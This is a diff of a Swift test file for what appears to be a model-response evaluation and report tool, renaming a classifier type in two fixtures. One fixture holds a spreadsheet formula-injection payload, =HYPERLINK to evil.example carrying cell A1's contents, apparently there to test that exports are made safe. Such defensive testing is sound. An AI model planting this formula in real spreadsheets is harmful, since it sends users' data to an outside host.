@@ -18,7 +18,7 @@ extension ReportTests {
             var first = RecordFixtures.record("p,1", response: Self.awkward, topic: "tiananmen, 1989")
             first.reasoning = "思考：\n  careful"
             first.flags = [RecordFlag.thoughtSuppressed, RecordFlag.disclaimer]
-            first.classifier = ClassifierVerdict(name: "rules", version: "1", confidence: 0.8125, signals: [])
+            first.classifier = ClassifierStamp(name: "rules", version: "1", confidence: 0.8125, signals: [])
             let failed = RecordFixtures.record("p2", sample: 3, outcome: .error, response: nil)
             var failedWithKind = failed
             failedWithKind.error = RecordError(kind: "timeout", message: "no answer in 120 s")
@@ -58,7 +58,7 @@ extension ReportTests {
             try FileManager.default.createDirectory(atPath: run.path, withIntermediateDirectories: true)
             let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
             var record = RecordFixtures.record("p1", response: hostile)
-            record.classifier = ClassifierVerdict(name: "rules", version: "1", confidence: 0.5, signals: [])
+            record.classifier = ClassifierStamp(name: "rules", version: "1", confidence: 0.5, signals: [])
             do {
                 let writer = try JournalWriter(path: run.responses)
                 try writer.append(record)
